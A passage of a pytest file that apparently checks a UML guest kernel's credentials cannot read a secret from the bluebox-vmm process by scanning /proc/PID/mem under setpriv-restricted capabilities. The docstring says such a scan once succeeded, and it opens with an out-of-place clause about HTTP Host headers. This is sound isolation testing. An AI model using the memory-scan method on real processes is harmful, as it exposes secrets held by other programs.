             "sys_chroot", "sys_ptrace", "sys_pacct", "sys_admin", "sys_boot", "sys_nice",
             "sys_resource", "sys_time", "sys_tty_config", "mknod", "lease", "audit_write",
             "audit_control", "setfcap", "mac_override", "mac_admin", "syslog", "wake_alarm",
             "block_suspend", "audit_read", "perfmon", "bpf", "checkpoint_restore"]


def _status(pid):
    return dict(line.split(":\t", 1) for line in open(f"/proc/{pid}/status").read().splitlines()
                if ":\t" in line)


def _as_uml(pid, uml_caps, tmp):
    """SCAN_PY on pid, run with the credentials the guest kernel's process has (its uid and
    exactly its capabilities): what guest code running in that process could read."""
    caps = int(uml_caps, 16)
    keep = ",".join(f"+{n}" for i, n in enumerate(CAP_NAMES) if caps >> i & 1)
    script = tmp / "scan.py"
    script.write_text(SCAN_PY)
    r = subprocess.run(["setpriv", "--inh-caps=-all", f"--bounding-set=-all{',' if keep else ''}"
                        f"{keep}", "--", "/usr/bin/python3", str(script), str(pid), VALUE],
                       capture_output=True, text=True, timeout=60)
    return r.stdout.strip() or r.stderr.strip()


@UML
def test_guest_kernel_credentials_cannot_read_the_secret_from_the_vmm(lab, tmp_path):
    """Expected (plain HTTP is decided by Host, a Host mismatch is refused): nothing with the UML kernel process's credentials can read bluebox-vmm's
    memory. The guest kernel is a process of the same container, same uid and the same
    capabilities as bluebox-vmm (which holds the real values, as do its proxy children), and
    guest root can load modules into it (CONFIG_MODULES, modules_disabled=0): code there can
    ptrace its parent or read its memory unless bluebox-vmm is not dumpable. When written, a
    scan of /proc/PID/mem with those credentials found the value in bluebox-vmm."""
    if shutil.which("setpriv") is None:
        pytest.skip("needs setpriv (util-linux)")
    marker = f"sleep 9.{os.getpid()}"
    found = {}

    def watch():
        deadline = time.time() + 120
        while time.time() < deadline and not found:
            for pid in os.listdir("/proc"):
                try:
                    cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ")
                    exe = os.readlink(f"/proc/{pid}/exe")
                except OSError:
                    continue
                if marker.encode() in cmd and exe.endswith("/bluebox-vmm"):
                    found[pid] = None
            time.sleep(0.3)
        time.sleep(1)
        uml = [p for p in os.listdir("/proc") if p.isdigit() and _ppid_in(p, found)]
        for pid in list(found):
            caps = None
            for p in uml:
                try:
                    if os.readlink(f"/proc/{p}/exe").endswith("linux.uml"):
                        caps = _status(p)["CapPrm"]
                except OSError:
                    continue
            found[pid] = _as_uml(pid, caps or _status(pid)["CapPrm"], tmp_path)

    t = threading.Thread(target=watch)
    t.start()
    lab.run(f"{marker}; echo slept")
    t.join()
    assert found, "no bluebox-vmm process seen"
    assert all(v and v.startswith("cannot open") for v in found.values()), found


def _ppid_in(pid, parents):
    try:
        return _status(pid)["PPid"] in parents
    except (OSError, KeyError):
        return False
